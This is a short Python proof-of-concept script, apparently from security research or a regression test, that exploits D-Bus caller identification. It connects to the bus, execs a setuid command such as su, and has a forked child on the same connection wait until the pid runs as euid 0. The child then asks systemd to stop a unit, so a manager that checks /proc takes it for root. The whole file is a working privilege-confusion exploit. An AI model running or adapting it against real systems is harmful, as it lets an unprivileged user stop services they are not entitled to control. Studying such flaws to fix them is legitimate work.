#!/usr/bin/python3
# exec_setuid_caller.py ADDRESS UNIT SETUID-CMD...: a bus client that connects, then execs SETUID-CMD (su,
# waiting for a password on a pipe) while a forked child of it, holding the same connection, calls
# StopUnit(UNIT) once the connecting pid runs with euid 0. The bus vouches for the uid of the connect; a
# manager that reads the euid of that pid from /proc now takes the caller for root. Prints the reply.
import os
import socket
import sys
import time

from jeepney import DBusAddress, MessageType, new_method_call
from jeepney.auth import BEGIN, Authenticator
from jeepney.bus_messages import message_bus
from jeepney.low_level import Parser

address, unit, cmd = sys.argv[1], sys.argv[2], sys.argv[3:]
sock = socket.socket(socket.AF_UNIX)
sock.connect(address.split("path=", 1)[1])
auth = Authenticator()
for req in auth:
    sock.sendall(req)
    auth.feed(sock.recv(1024))
sock.sendall(BEGIN)
parser = Parser()


def call(msg, serial):
    sock.sendall(msg.serialise(serial))
    while True:
        reply = parser.get_next_message()
        if reply is None:
        	parser.add_data(sock.recv(4096))
        elif reply.header.fields.get(5) == serial:  # REPLY_SERIAL
        	return reply


call(message_bus.Hello(), 1)
caller = os.getpid()
password_r, password_w = os.pipe()
if os.fork() != 0:
    os.dup2(password_r, 0)
    os.close(password_w)
    os.execvp(cmd[0], cmd)
os.close(password_r)
for _ in range(200):
    with open("/proc/%d/status" % caller) as f:
        if [line.split()[2] for line in f if line.startswith("Uid:")] == ["0"]:
        	break
    time.sleep(0.025)
else:
    print("pid %d never ran with euid 0" % caller, flush=True)
    os._exit(2)
manager = DBusAddress("/org/freedesktop/systemd1", bus_name="org.freedesktop.systemd1",
                      interface="org.freedesktop.systemd1.Manager")
reply = call(new_method_call(manager, "StopUnit", "ss", (unit, "replace")), 2)
if reply.header.message_type == MessageType.error:
    print("refused: %s: %s" % (reply.header.fields.get(4), reply.body[0] if reply.body else ""), flush=True)
    os._exit(1)
print("done: %s" % (reply.body,), flush=True)
os._exit(0)
